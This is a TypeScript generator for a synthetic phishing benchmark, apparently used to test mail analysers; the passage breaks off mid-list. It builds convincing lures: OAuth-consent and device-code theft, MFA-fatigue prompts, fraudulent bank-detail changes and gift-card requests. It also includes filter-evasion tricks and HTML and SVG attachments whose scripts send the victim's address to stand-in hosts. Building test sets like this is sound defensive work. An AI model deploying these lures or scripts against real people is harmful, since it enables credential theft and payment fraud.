// The fourth unseen phishing set: phishing, business-email compromise and fraud after 2023–2026 campaigns,
// written from published descriptions of them without the analysers in sight, every message filled from
// the seed (people, brands, domains, amounts, wording, language). Some bodies go out base64 or
// quoted-printable, as mailers send them. It borrows the third set's scene and page helpers. Every
// attacker's domain is reserved or made up; a brand's own sign-in endpoint appears only where the attack
// abuses it (consent and device-code flows); attachments are inert.
import QRCode from 'qrcode';
import type { SeededRandom } from './generate.js';
import { diskImage, oneNote, qrJpeg, qrPng, zipOf } from './payloads.js';
import { type Entry, fill, page, type Scene, type UnseenMessage } from './unseen-3.js';
import { invitation, onePagePdf, protectedZip } from './unseen-payloads.js';

/** How a template's text and HTML bodies are sent: as written (8bit), base64 or quoted-printable. */
export type Transfer = 'base64' | 'quoted-printable';
export type EncodedEntry = Entry & { transfer?: Transfer };

/** A quoted-printable line cut into lines of at most 76 with soft breaks, never inside an =XX escape. */
const fold = (line: string) => {
  const lines: string[] = [];
  let rest = line;
  while (rest.length > 75) {
    const escapeAt = rest.lastIndexOf('=', 74);
    const cut = escapeAt > 72 ? escapeAt : 75;
    lines.push(`${rest.slice(0, cut)}=`);
    rest = rest.slice(cut);
  }
  return [...lines, rest].join('\r\n');
};

/** Quoted-printable (RFC 2045): bytes outside printable ASCII, and `=`, as =XX; lines folded at 76. */
function quotedPrintable(text: string): string {
  return text
    .split('\n')
    .map((line) => {
      let out = '';
      for (const byte of Buffer.from(line, 'utf8'))
        out +=
          (byte >= 33 && byte <= 126 && byte !== 61) || byte === 32
            ? String.fromCharCode(byte)
            : `=${byte.toString(16).toUpperCase().padStart(2, '0')}`;
      return fold(out.replace(/ $/, '=20'));
    })
    .join('\r\n');
}

/** A message's text and HTML bodies re-sent in `transfer`, with the header saying so. */
function transferEncoded(raw: string, transfer: Transfer): string {
  return raw.replace(
    /Content-Type: (text\/(?:plain|html)); charset=utf-8\r\n\r\n([\s\S]*?)\r\n(?=--a?b\d+)/g,
    (_, type: string, body: string) =>
      `Content-Type: ${type}; charset=utf-8\r\nContent-Transfer-Encoding: ${transfer}\r\n\r\n${
        transfer === 'base64'
          ? Buffer.from(body).toString('base64').replace(/.{76}/g, '$&\r\n')
          : quotedPrintable(body)
      }\r\n`,
  );
}

/** The third set's fill, then each entry's bodies in its transfer encoding. */
export async function fillEncoded(
  entries: readonly EncodedEntry[],
  perTemplate: number,
  seed: number,
  seededRandom: (seed: number) => SeededRandom,
  firstNumber: number,
): Promise<UnseenMessage[]> {
  const messages = await fill(entries, perTemplate, seed, seededRandom, firstNumber);
  return messages.map((m, i) => {
    const transfer = entries[Math.floor(i / perTemplate)].transfer;
    return transfer === undefined ? m : { ...m, raw: transferEncoded(m.raw, transfer) };
  });
}

type Outcome = 'pass' | 'fail' | 'softfail' | 'none' | 'neutral';

/** An Authentication-Results header of the receiving server: SPF, DKIM and DMARC for the sender's domain. */
export function authResults(from: string, [spf, dkim, dmarc]: Outcome[], mailFrom = from): string {
  return (
    `Authentication-Results: mx.corp.example; spf=${spf} smtp.mailfrom=${mailFrom}; ` +
    `dkim=${dkim}${dkim === 'none' ? '' : ` header.d=${mailFrom}`}; dmarc=${dmarc} header.from=${from}`
  );
}

export const domainOf = (email: string) => email.slice(email.indexOf('@') + 1);
export const uuid = (s: Scene) => `${s.hex(8)}-${s.hex(4)}-${s.hex(4)}-${s.hex(4)}-${s.hex(12)}`;

/** A made-up domain that reads like `domain` at a glance: a letter swapped, doubled or another ending. */
function lookalike(s: Scene, domain: string): string {
  const base = domain.slice(0, domain.lastIndexOf('.'));
  return s.pick([
    `${base}.test`,
    `${base.replace(/l/, 'I').replace(/o/, '0')}.test`,
    `${base}-payments.test`,
    `${base.replace(/([aeiou])/, '$1$1')}.test`,
    `${base.replace('.', '-')}.example.net`,
  ]);
}

/** A QR code drawn as an HTML table of black and white cells: no image for a filter to decode. */
function qrTable(url: string): string {
  const { modules } = QRCode.create(url, { errorCorrectionLevel: 'L' });
  const rows = Array.from({ length: modules.size }, (_, row) =>
    Array.from(
      { length: modules.size },
      (_, col) =>
        `<td style="width:4px;height:4px;padding:0;background:${modules.get(row, col) ? '#000' : '#fff'}"></td>`,
    ).join(''),
  );
  return `<table cellspacing="0" cellpadding="0" style="border-collapse:collapse">${rows.map((r) => `<tr>${r}</tr>`).join('')}</table>`;
}

/** The victim's address base64 in a link's fragment, as adversary-in-the-middle kits prefill the page. */
const prefill = (s: Scene) => Buffer.from(s.victim.email).toString('base64');

const ENTRIES: EncodedEntry[] = [
  {
    kind: 'oauth-consent',
    template: 'm365-app-consent',
    write: (s) => {
      const site = s.borrowed();
      const app = s.pick([
        'DocuView Secure Reader',
        'Acrobat Viewer for M365',
        'SecureShare Files',
        'PDF Online',
      ]);
      const file = s.pick(['Q4 Budget Review.xlsx', 'Board Pack - Draft.pdf', 'Salary Bands 2027.xlsx']);
      const consent =
        `https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=${uuid(s)}&response_type=code` +
        `&redirect_uri=https%3A%2F%2F${s.host('files', 'view')}%2Fauth%2Fcallback` +
        `&scope=Mail.ReadWrite%20Files.ReadWrite.All%20User.Read%20offline_access&state=${s.token(24)}`;
      return {
        headers: s.headers(`${s.colleague.name} (via SharePoint)`, `office@${site}`, [
          authResults(site, ['pass', 'pass', 'pass']),
        ]),
        subject: `${s.colleague.name} shared "${file}" with you`,
        html: page(
          [
            `${s.colleague.name} shared a file with you.`,
            `<b>${file}</b>`,
            `This file is protected. To open it, sign in with your ${s.company} account and allow <b>${app}</b> to read it.`,
          ],
          ['Open', consent],
          'Microsoft respects your privacy. This email was sent from an unmonitored mailbox.',
        ),
      };
    },
  },
  {
    kind: 'oauth-consent',
    template: 'workspace-drive-consent',
    transfer: 'quoted-printable',
    write: (s) => {
      const client = `${s.digits(12)}-${s.token(32)}.apps.googleusercontent.com`;
      const consent =
        `https://accounts.google.com/o/oauth2/auth?client_id=${client}&redirect_uri=https://${s.host('drive', 'sync')}/oauth2callback` +
        '&scope=https://mail.google.com/+https://www.googleapis.com/auth/drive&access_type=offline&response_type=code';
      const doc = s.pick(['Invoice reconciliation', 'Team offsite plan', 'Vendor onboarding checklist']);
      return {
        headers: s.headers(
          `${s.stranger.name} (via Google Docs)`,
          `comments-noreply@${s.host('docs', 'share')}`,
        ),
        subject: `Document shared with you: "${doc}"`,
        text: [
          `${s.stranger.name} (${s.stranger.email}) has invited you to edit the following document:`,
          '',
          doc,
          '',
          'The document uses the Docs Sync add-on. Allow it access when asked so that your edits are saved:',
          consent,
          '',
          'Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA',
        ].join('\n'),
      };
    },
  },
  {
    kind: 'device-code',
    template: 'teams-meeting-device-code',
    write: (s) => {
      const code = s.token(9).toUpperCase();
      const topic = s.pick([
        'Panel discussion: supply-chain resilience',
        'Interview request: your view on the 2027 outlook',
        'Follow-up on our partnership proposal',
      ]);
      return {
        headers: s.headers(s.stranger.name, s.freemail(s.stranger), [`Reply-To: ${s.freemail(s.stranger)}`]),
        subject: `Microsoft Teams meeting: ${topic}`,
        html: page(
          [
            `Dear ${s.victim.first},`,
            `Thank you for agreeing to speak with me. I have set up the Teams room for our call on ${s.pick(['Tuesday', 'Wednesday', 'Thursday'])} at ${10 + s.below(6)}:00.`,
            'Because the meeting is hosted in our secure tenant, please join as follows:',
            '1. Go to <a href="https://microsoft.com/devicelogin">https://microsoft.com/devicelogin</a>',
            `2. Enter the code <b style="font-size:18px">${code}</b> and sign in with your work account`,
            'The code is valid for 15 minutes, so please use it as soon as you receive this message.',
            `Kind regards,<br>${s.stranger.name}`,
          ],
          undefined,
          `Microsoft Teams meeting | Meeting ID: 2${s.digits(11)}`,
        ),
      };
    },
  },
  {
    kind: 'device-code',
    template: 'secure-document-code',
    transfer: 'quoted-printable',
    write: (s) => {
      const site = s.borrowed();
      return {
        headers: s.headers('Secure Document Portal', `documents@${site}`, [
          authResults(site, ['pass', 'none', 'none']),
        ]),
        subject: `Encrypted document from ${s.vendor.name} – access code inside`,
        text: [
          `${s.vendor.name} sent you an encrypted document (${s.pick(['Contract_Amendment', 'Remittance', 'NDA_Signed'])}_${s.digits(5)}.pdf).`,
          '',
          'To decrypt it, verify your identity with your Microsoft 365 account:',
          '  - open https://login.microsoftonline.com/common/oauth2/deviceauth',
          `  - enter the one-time code ${s.token(3).toUpperCase()}${s.digits(2)}${s.token(4).toUpperCase()}`,
          '',
          'The document opens automatically once you have signed in. The code expires in 15 minutes.',
        ].join('\n'),
      };
    },
  },
  {
    kind: 'mfa-fatigue',
    template: 'approve-pushes-migration',
    write: (s) => {
      const from = `it-servicedesk@${lookalike(s, 'corp.example')}`;
      return {
        headers: s.headers('IT Service Desk', from, [authResults(domainOf(from), ['pass', 'pass', 'none'])]),
        subject: 'Mailbox migration tonight – approve the sign-in requests',
        text: [
          `Hello ${s.victim.first},`,
          '',
          `Tonight between 22:00 and 23:30 your mailbox moves to the new ${s.company} tenant.`,
          'During the move you will receive 3 to 5 Microsoft Authenticator sign-in requests. Please APPROVE all of',
          'them; a request that is denied stops the migration and your mailbox will be locked until Monday.',
          '',
          `If you are asked for a number, call the service desk on ${s.phone()} and we will read it to you.`,
          '',
          'Thank you for your patience,',
          'IT Service Desk',
        ].join('\n'),
      };
    },
  },
  {
    kind: 'mfa-fatigue',
    template: 'number-match-reply',
    write: (s) => {
      const [subject, lines] = s.pick([
        [
          'Sign-in attempt needs your confirmation',
          [
            'We blocked a sign-in to your account from a new device.',
            'If this was you, reply to this email with the two-digit number shown on your screen, or approve the request in your Authenticator app.',
            'If you do nothing, your account will be suspended in 2 hours for your protection.',
          ],
        ],
        [
          'Confirme el inicio de sesión',
          [
            'Hemos bloqueado un inicio de sesión en su cuenta desde un dispositivo nuevo.',
            'Si fue usted, responda a este correo con el número de dos cifras que aparece en su pantalla o apruebe la solicitud en la aplicación Authenticator.',
            'Si no hace nada, su cuenta se suspenderá en 2 horas por su seguridad.',
          ],
        ],
        [
          'Confirme o início de sessão',
          [
            'Bloqueámos um início de sessão na sua conta a partir de um dispositivo novo.',
            'Se foi você, responda a este e-mail com o número de dois algarismos que aparece no ecrã ou aprove o pedido na aplicação Authenticator.',
            'Caso contrário, a sua conta será suspensa dentro de 2 horas.',
          ],
        ],
      ] as const);
      return {
        headers: s.headers('Microsoft account team', `account-security@${s.host('msonline', 'verify')}`, [
          `Reply-To: ${s.freemail(s.stranger)}`,
        ]),
        subject,
        text: [...lines, '', 'Microsoft account team'].join('\n\n'),
      };
    },
  },
  {
    kind: 'aitm-kit',
    template: 'storage-full-compromised-site',
    transfer: 'base64',
    write: (s) => {
      const link = `https://${s.borrowed()}/wp-content/uploads/2026/${s.digits(2)}/${s.token(10)}/index.html#${prefill(s)}`;
      const used = 96 + s.below(4);
      return {
        headers: s.headers(
          `Microsoft Outlook <${s.victim.email}>`,
          `postmaster@${s.host('outlook', 'mail')}`,
        ),
        subject: `Mailbox storage ${used}% full – ${s.victim.email}`,
        html: page(
          [
            `Your mailbox <b>${s.victim.email}</b> is almost full.`,
            `<div style="width:300px;background:#eee"><div style="width:${used}%;background:#c00;height:12px"></div></div>${used}% of 50 GB used`,
            'Incoming messages are being held and will be returned to their senders after 24 hours. Get 50 GB of extra storage at no cost to keep receiving mail.',
          ],
          ['Get more storage', link],
          `© 2026 Microsoft Corporation. This message was sent to ${s.victim.email}.`,
        ),
      };
    },
  },
  {
    kind: 'aitm-kit',
    template: 'encrypted-message-redirect',
    write: (s) => {
      const landing = `https://${s.host('secure', 'message')}/?${prefill(s)}`;
      const hop = s.pick([
        `https://click.adnetwork.example/aclk?sa=l&ai=${s.token(22)}&adurl=${encodeURIComponent(landing)}`,
        `https://www.jobsboard.example/rc/clk?jk=${s.hex(16)}&from=email&dest=${encodeURIComponent(landing)}`,
        `https://${s.borrowed()}/redirect.php?url=${encodeURIComponent(landing)}`,
      ]);
      return {
        headers: s.headers(`${s.vendor.name} Secure Mail`, `securemail@${lookalike(s, s.vendor.domain)}`),
        subject: `[Secure] ${s.vendor.name}: encrypted message for ${s.victim.first} ${s.victim.last}`,
        html: page(
          [
            `${s.stranger.name} (${s.vendor.name}) has sent you a secure message.`,
            'For your protection you will be asked to confirm that you are human, then to sign in with your email account.',
            `Message ID: ${uuid(s)}`,
          ],
          ['Read the message', hop],
          'Encrypted with Secure Message Service. Do not forward this notification.',
        ),
      };
    },
  },
  {
    kind: 'voicemail',
    template: 'voicemail-html-attachment',
    write: (s) => {
      const landing = Buffer.from(`https://${s.host('voice', 'play')}/vm/`).toString('base64');
      const length = `0:${10 + s.below(50)}`;
      const caller = s.phone();
      return {
        headers: s.headers('Voicemail Service', `voicemail@${s.host('voip')}`),
        subject: `🔊 New voice message from ${caller} (${length})`,
        html: page([
          `You received a voice message from <b>${caller}</b> on ${s.pick(['Mon', 'Tue', 'Wed'])} at ${8 + s.below(9)}:${s.digits(1)}5.`,
          `Length: ${length}. Open the attached audio player to listen.`,
        ]),
        parts: [
          {
            type: 'text/html',
            name: `VM_${s.digits(6)}_Play.htm`,
            content: Buffer.from(
              `<html><head><title>Voice Message</title></head><body><p>Loading audio player…</p><script>var e="${s.victim.email}";window.location.href=atob("${landing}")+"#"+btoa(e);</script></body></html>`,
            ),
          },
        ],
      };
    },
  },
  {
    kind: 'voicemail',
    template: 'voicemail-svg',
    write: (s) => {
      const landing = `https://${s.host('audio', 'msg')}/listen?c=${s.token(12)}&e=${prefill(s)}`;
      return {
        headers: s.headers(`Voice Mail (${s.company})`, `no-reply@${lookalike(s, 'corp.example')}`),
        subject: `Missed call & voice message – ${s.digits(3)}-${s.digits(4)}`,
        text: `You have a new voice message (0:${20 + s.below(40)}). Open the attached file to play it.\n\n${s.company} Unified Communications`,
        parts: [
          {
            type: 'image/svg+xml',
            name: `Audio_Message_${s.digits(8)}.svg`,
            content: Buffer.from(
              `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="400" height="120"><a xlink:href="${landing}"><rect width="400" height="120" fill="#1a73e8"/><text x="30" y="70" fill="#fff" font-size="22">▶ Play voice message</text></a><script><![CDATA[window.location.href="${landing}";]]></script></svg>`,
            ),
          },
        ],
      };
    },
  },
  {
    kind: 'e-signature',
    template: 'esign-lookalike-compensation',
    write: (s) => {
      const from = `dse@${s.host('docusign', 'envelopes')}`;
      const link = `https://${s.host('docusign')}/Signing/EmailStart.aspx?a=${uuid(s)}&acct=${uuid(s)}&er=${uuid(s)}`;
      return {
        headers: s.headers(`${s.company} HR via DocuSign`, from, [
          authResults(domainOf(from), ['pass', 'pass', 'pass']),
        ]),
        subject: `Complete with DocuSign: ${s.company} 2027 Compensation Adjustment – ${s.victim.last}.pdf`,
        html: page(
          [
            `<b>${s.company} Human Resources</b> sent you a document to review and sign.`,
            `Please review your 2027 compensation adjustment letter, effective ${s.pick(['January 1', 'February 1'])}. Your signature is required by ${s.pick(['Friday', 'end of day tomorrow'])}.`,
          ],
          ['REVIEW DOCUMENT', link],
          'Do Not Share This Email. This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.',
        ),
      };
    },
  },
  {
    kind: 'e-signature',
    template: 'esign-pdf-agreement',
    write: (s) => {
      const link = `https://${s.host('sign', 'agreement')}/a/${s.token(16)}`;
      const fr = s.below(2) === 0;
      return {
        headers: s.headers(
          s.stranger.name,
          `${s.stranger.first}.${s.stranger.last}@${lookalike(s, s.vendor.domain)}`.toLowerCase(),
        ),
        subject: fr ? `Contrat à signer – ${s.vendor.name}` : `Agreement for signature – ${s.vendor.name}`,
        text: fr
          ? `Bonjour ${s.victim.first},\n\nVeuillez trouver ci-joint le contrat de service pour signature électronique.\n\nCordialement,\n${s.stranger.name}`
          : `Hi ${s.victim.first},\n\nPlease find attached the service agreement for your e-signature.\n\nBest regards,\n${s.stranger.name}`,
        parts: [
          {
            type: 'application/pdf',
            name: `Agreement_${s.vendor.name.replace(/\W+/g, '_')}_${s.digits(4)}.pdf`,
            content: onePagePdf(
              [
                'Adobe Acrobat Sign',
                `${s.vendor.name} sent you an agreement to review and sign.`,
                `Agreement: Master Services Agreement ${s.digits(6)}`,
                'This document is protected. Click below to review and sign.',
                'REVIEW AND SIGN',
              ],
              { link },
            ),
          },
        ],
      };
    },
  },
  {
    kind: 'shared-file',
    template: 'cloud-storage-service',
    write: (s) => {
      const [service, domain] = s.pick([
        ['CloudStash', 'cloudstash.example'],
        ['ShareDrive Cloud', 'sharedrive-cloud.example'],
        ['BoxVault', 'boxvault.example'],
      ] as const);
      const file = `${s.pick(['Remittance', 'Payment_Confirmation', 'Statement'])}_${s.digits(6)}.pdf`;
      return {
        headers: s.headers(`${s.stranger.name} via ${service}`, `no-reply@${domain}`, [
          authResults(domain, ['pass', 'pass', 'pass']),
          `Reply-To: ${s.stranger.email}`,
        ]),
        subject: `${s.stranger.name} shared "${file}" with you`,
        html: page(
          [
            `<b>${s.stranger.name}</b> (${s.stranger.email}) shared a file with you.`,
            `<i>"Hi ${s.victim.first}, please review the payment confirmation and revert at your earliest convenience."</i>`,
            `${file} · ${100 + s.below(800)} KB`,
          ],
          ['View file', `https://${domain}/s/${s.token(15)}?dl=0`],
          `${service}, Inc. You received this email because ${s.stranger.email} shared a file with you.`,
        ),
      };
    },
  },
  {
    kind: 'shared-file',
    template: 'compromised-vendor-sharepoint',
    transfer: 'quoted-printable',
    write: (s) => {
      const tenant = s.vendor.domain.replace(/\.example$/, '').replace(/\W/g, '');
      const link =
        `https://${tenant}-my.sharepoint.example.net/:o:/g/personal/${s.stranger.first}_${s.stranger.last}_${tenant}/${s.token(22)}?e=${s.token(6)}`.toLowerCase();
      return {
        headers: s.headers(s.stranger.name, s.stranger.email, [
          authResults(s.vendor.domain, ['pass', 'pass', 'pass']),
        ]),
        subject: `${s.stranger.name} shared "${s.vendor.name} - Statement of Account" with you`,
        html: page(
          [
            `${s.stranger.name} shared a file with you`,
            `<b>${s.vendor.name} - Statement of Account</b>`,
            'Please find our latest statement and the outstanding items. Let us know if anything is missing.',
            'This link will only work for direct recipients of this message.',
          ],
          ['Open', link],
          'Microsoft respects your privacy. To learn more, please read our Privacy Statement.',
        ),
      };
    },
  },
  {
    kind: 'hr-benefits',
    template: 'open-enrollment-deadline',
    write: (s) => {
      const from = `benefits@${lookalike(s, 'corp.example')}`;
      return {
        headers: s.headers(`${s.company} Benefits`, from),
        subject: `Action required: 2027 Open Enrollment closes ${s.pick(['Friday', 'tomorrow', 'November 15'])}`,
        html: page(
          [
            `Hi ${s.victim.first},`,
            'Our records show you have not yet confirmed your 2027 medical, dental and vision elections. Employees who do not confirm will be <b>defaulted to employee-only coverage</b>, and dependants will lose cover on January 1.',
            'Sign in with your company credentials to review and confirm your elections. It takes about five minutes.',
          ],
          [
            'Review my benefits',
            `https://${s.host('benefits', 'enroll')}/login?u=${encodeURIComponent(s.victim.email)}`,
          ],
          `${s.company} Total Rewards · Questions? Reply to this email.`,
        ),
      };
    },
  },
  {
    kind: 'hr-benefits',
    template: 'handbook-acknowledgement',
    transfer: 'quoted-printable',
    write: (s) => ({
      headers: s.headers('Human Resources', 'hr@corp.example', [
        `Reply-To: hr-notifications@${s.host('hr', 'policy')}`,
        authResults('corp.example', ['fail', 'none', 'fail'], s.host('mailer')),
      ]),
      subject: `Updated Employee Handbook 2027 – acknowledgement required for ${s.victim.first} ${s.victim.last}`,
      text: [
        'Dear employee,',
        '',
        `The ${s.company} Employee Handbook has been updated (remote work, expense policy and code of conduct). All staff must read and acknowledge it by ${s.pick(['Friday', 'the end of the week'])}.`,
        '',
        `Handbook and acknowledgement form: https://${s.host('handbook')}/doc/${s.token(12)}`,
        '',
        'Failure to acknowledge may delay your next performance review.',
        '',
        'Human Resources',
      ].join('\n'),
    }),
  },
  {
    kind: 'payroll',
    template: 'salary-review-qr-pdf',
    write: async (s) => {
      const url = `https://${s.host('payroll', 'review')}/ack?id=${s.token(10)}#${prefill(s)}`;
      return {
        headers: s.headers('Payroll Department', `payroll@${lookalike(s, 'corp.example')}`),
        subject: `${s.victim.first}, your salary review letter`,
        text: `Hello ${s.victim.first},\n\nAttached is your salary review letter for 2027. Scan the QR code in the letter with your phone to view it and confirm your acknowledgement by ${s.pick(['Thursday', 'Friday'])}.\n\nPayroll Department`,
        parts: [
          {
            type: 'application/pdf',
            name: `Salary_Review_${s.victim.last}_2027.pdf`,
            content: onePagePdf(
              [
                `${s.company} – Confidential`,
                `Salary review 2027: ${s.victim.name}`,
                'Your revised compensation is available in the secure payroll portal.',
                'Scan the code below with your mobile phone camera to view and acknowledge.',
              ],
              { jpeg: await qrJpeg(url) },
            ),
          },
        ],
      };
    },
  },
  {
    kind: 'payroll',
    template: 'payslip-portal-de',
    write: (s) => {
      const month = s.pick(['Oktober', 'November', 'Dezember']);
      return {
        headers: s.headers('Personalabteilung', `lohn@${s.host('lohn', 'portal')}`, [
          authResults(s.host('lohn'), ['softfail', 'none', 'none']),
        ]),
        subject: `Ihre Gehaltsabrechnung für ${month} 2026 ist verfügbar`,
        html: page(
          [
            `Hallo ${s.victim.first} ${s.victim.last},`,
            `Ihre Gehaltsabrechnung für ${month} 2026 steht im Mitarbeiterportal bereit. Wegen einer Umstellung des Portals melden Sie sich bitte einmalig mit Ihrem Firmenkonto an, um die Abrechnung freizuschalten.`,
            'Nicht bestätigte Konten werden zum Monatsende gesperrt; die Auszahlung kann sich dann verzögern.',
          ],
          ['Gehaltsabrechnung ansehen', `https://${s.host('lohn', 'portal')}/login?ref=${s.token(8)}`],
          'Diese Nachricht wurde automatisch erstellt. Bitte nicht antworten.',
        ),
      };
    },
  },
  {
    kind: 'tax',
    template: 'w2-ready-portal',
    write: (s) => ({
      headers: s.headers('Payroll Services', `no-reply@${s.host('paystub', 'w2')}`),
      subject: 'Your 2026 Form W-2 is ready to download',
      html: page(
        [
          `Dear ${s.victim.first},`,
          `Your 2026 Form W-2 from ${s.company} is now available. To protect your information, sign in with your work email and password to download it.`,
          'Forms not downloaded within 14 days are mailed to the address on file, which may delay your tax return.',
        ],
        ['Download W-2', `https://${s.host('paystub', 'w2')}/w2/download?emp=${s.digits(7)}`],
      ),
    }),
  },
  {
    kind: 'tax',
    template: 'tax-refund-languages',
    transfer: 'base64',
    write: (s) => {
      const link = `https://${s.host('tax', 'refund')}/claim/${s.token(10)}`;
      const amount = s.money(180, 980);
      const [name, subject, lines] = s.pick([
        [
          'HMRC',
          'HMRC: you are eligible for a tax refund',
          [
            `After the annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund of £${amount}.`,
            'Please submit the tax refund request within 3 working days so that we can process it.',
          ],
        ],
        [
          'impots.gouv',
          'Avis de remboursement – Direction générale des Finances publiques',
          [
            `Après le dernier calcul de votre impôt, vous avez droit à un remboursement de ${amount} €.`,
            'Pour recevoir votre remboursement, veuillez confirmer vos coordonnées bancaires sous 48 heures.',
          ],
        ],
        [
          'Agencia Tributaria',
          'Agencia Tributaria: devolución pendiente',
          [
            `Tras revisar su declaración, le corresponde una devolución de ${amount} €.`,
            'Confirme sus datos bancarios en un plazo de 48 horas para recibir el importe.',
          ],
        ],
      ] as const);
      return {
        headers: s.headers(name, `notification@${s.host('gov', 'refund')}`),
        subject,
        html: page(
          [...lines],
          [name === 'HMRC' ? 'Claim refund' : name === 'impots.gouv' ? 'Accéder' : 'Acceder', link],
        ),
      };
    },
  },
  {
    kind: 'it-helpdesk',
    template: 'spam-flood-teams-call',
    write: (s) => ({
      headers: s.headers('IT Help Desk', `helpdesk@${s.token(8)}.onmicrosoft.example.net`),
      subject: 'Re: spam filter issue on your mailbox',
      text: [
        `Hi ${s.victim.first},`,
        '',
        'We have noticed a large volume of spam and subscription emails arriving in your mailbox in the last hour. Our team is applying a new filter to your account.',
        '',
        `A help desk engineer will contact you on Microsoft Teams shortly (external chat, "Help Desk ${s.company}"). Please accept the chat and follow the instructions, or call us directly on ${s.phone()}.`,
        '',
        'Please do not delete the messages yet; we need them for the filter.',
        '',
        'IT Help Desk',
      ].join('\n'),
    }),
  },
  {
    kind: 'it-helpdesk',
    template: 'ticket-resolved-reopen',
    write: (s) => {
      const ticket = `INC${s.digits(7)}`;
      const portal = `${s.company.toLowerCase().replace(/\W+/g, '')}-servicenow.test`;
      return {
        headers: s.headers(`${s.company} Service Desk`, `servicedesk@${portal}`),
        subject: `${ticket} has been resolved`,
        html: page(
          [
            `Incident ${ticket} – "${s.pick(['Outlook not syncing', 'VPN disconnects', 'Password reset request'])}" has been resolved and will close automatically in 24 hours.`,
            'If the problem is not fixed, or you did not raise this ticket, reopen it now by signing in.',
          ],
          ['Reopen ticket', `https://${portal}/sp?id=ticket&sys_id=${s.hex(32)}`],
          `Ref:MSG${s.digits(8)}`,
        ),
      };
    },
  },
  {
    kind: 'password-expiry',
    template: 'keep-current-password',
    transfer: 'base64',
    write: (s) => {
      const days = 1 + s.below(3);
      return {
        headers: s.headers(`${domainOf(s.victim.email)} Admin`, `admin@${s.host('mail', 'admin')}`),
        subject: `Password for ${s.victim.email} expires in ${days} day${days === 1 ? '' : 's'}`,
        html: page(
          [
            `The password for <b>${s.victim.email}</b> expires on ${s.pick(['11/04/2026', '11/05/2026', '11/06/2026'])}.`,
            'You can keep your current password by confirming it below. If you do not, you will be signed out of all devices.',
          ],
          ['Keep current password', `https://${s.host('mail', 'keep')}/p/#${prefill(s)}`],
          `${domainOf(s.victim.email)} mail server · automated notice`,
        ),
      };
    },
  },
  {
    kind: 'password-expiry',
    template: 'password-expiry-languages',
    write: (s) => {
      const link = `https://${s.host('webmail', 'senha')}/?u=${encodeURIComponent(s.victim.email)}`;
      const [subject, body] = s.pick([
        [
          'Su contraseña caduca hoy',
          `Estimado usuario ${s.victim.email}:\n\nSu contraseña caduca hoy. Para conservar la contraseña actual y evitar la pérdida de correos, confírmela aquí:\n${link}\n\nAdministrador del sistema`,
        ],
        [
          'A sua senha expira hoje',
          `Caro utilizador ${s.victim.email},\n\nA sua senha expira hoje. Para manter a senha atual e não perder mensagens, confirme-a aqui:\n${link}\n\nAdministrador do sistema`,
        ],
        [
          'Uw wachtwoord verloopt vandaag',
          `Beste gebruiker ${s.victim.email},\n\nUw wachtwoord verloopt vandaag. Bevestig uw huidige wachtwoord om het te behouden:\n${link}\n\nSysteembeheer`,
        ],
      ] as const);
      return { headers: s.headers('Webmail', `no-reply@${s.host('webmail')}`), subject, text: body };
    },
  },
  {
    kind: 'invoice-diversion',
    template: 'bank-change-lookalike-vendor',
    write: (s) => {
      const from = `${s.stranger.first}.${s.stranger.last}@${lookalike(s, s.vendor.domain)}`.toLowerCase();
      return {
        headers: s.headers(s.stranger.name, from, [authResults(domainOf(from), ['pass', 'pass', 'none'])]),
        subject: `${s.vendor.name} – updated remittance details`,
        text: [
          `Dear ${s.victim.first},`,
          '',
          `Please be informed that due to our annual audit, ${s.vendor.name} has changed its receiving bank. All outstanding and future payments should be made to the new account below with immediate effect.`,
          '',
          `Beneficiary: ${s.vendor.name} Ltd`,
          `IBAN: GB${s.digits(2)} ${s.pick(['MIDL', 'BARC', 'LOYD'])} ${s.digits(4)} ${s.digits(4)} ${s.digits(4)} ${s.digits(2)}`,
          `SWIFT/BIC: ${s.pick(['MIDLGB22', 'BARCGB22', 'LOYDGB2L'])}`,
          '',
          `Our records show ${s.money(8_000, 96_000)} USD currently due. Kindly confirm once the change is updated in your system and share the expected payment date.`,
          'Please do not send payments to the old account, as it is under review and funds will be returned.',
          '',
          'Best regards,',
          s.stranger.name,
          `Accounts Receivable | ${s.vendor.name}`,
        ].join('\n'),
      };
    },
  },
  {
    kind: 'invoice-diversion',
    template: 'overdue-invoice-new-instructions-pdf',
    write: (s) => {
      const invoice = `INV-${s.digits(5)}`;
      const from = `accounts@${lookalike(s, s.vendor.domain)}`;
      return {
        headers: s.headers(`${s.vendor.name} Accounts`, from, [
          `In-Reply-To: <${s.token(16)}@${s.vendor.domain}>`,
          `References: <${s.token(16)}@${s.vendor.domain}>`,
        ]),
        subject: `RE: ${invoice} overdue – ${s.vendor.name}`,
        text: `Hello ${s.victim.first},\n\nFollowing up on ${invoice} (${s.money(4_000, 60_000)} EUR), which is now ${15 + s.below(40)} days overdue. Please note the payment instructions on the attached letter have been updated; kindly process the transfer today to avoid a hold on your account.\n\nRegards,\n${s.vendor.name} Accounts Receivable`,
        parts: [
          {
            type: 'application/pdf',
            name: 'Updated_Banking_Instructions.pdf',
            content: onePagePdf([
              `${s.vendor.name} – Change of bank details`,
              `Effective immediately, please remit all payments for ${invoice} and later invoices to:`,
              `Bank: ${s.pick(['Metro Commercial Bank', 'First Harbour Bank', 'Union Coastal Bank'])}`,
              `Account name: ${s.vendor.name} Holdings`,
              `Account: ${s.digits(10)}   Routing: 0${s.digits(8)}`,
              'Authorised signatory: Finance Director',
            ]),
          },
        ],
      };
    },
  },
  {
    kind: 'gift-card',
    template: 'ceo-gift-cards',
    write: (s) => {
      const count = 4 + s.below(5);
      const brand = s.pick(['Apple', 'Google Play', 'Amazon', 'Visa']);
      return {
        headers: s.headers(s.boss.name, s.freemail(s.boss)),
        subject: s.pick(['Quick favor', 'Are you available?', 'Request', `${s.victim.first}?`]),
        text: `${s.victim.first},\n\nI need you to get ${count} ${brand} gift cards, $${s.pick([100, 200, 250])} each, for some clients I'm meeting this afternoon. It's a surprise so keep it between us for now. I'm tied up in meetings and can't take calls.\n\nScratch the back, take a picture of each card and send them to me here. You'll be reimbursed today.\n\n${s.boss.first}\nSent from my iPhone`,
      };
    },
  },
  {
    kind: 'gift-card',
    template: 'gift-cards-languages',
    transfer: 'quoted-printable',
    write: (s) => {
      const from = `${s.boss.first}.${s.boss.last}@${lookalike(s, 'corp.example')}`.toLowerCase();
      const text = s.pick([
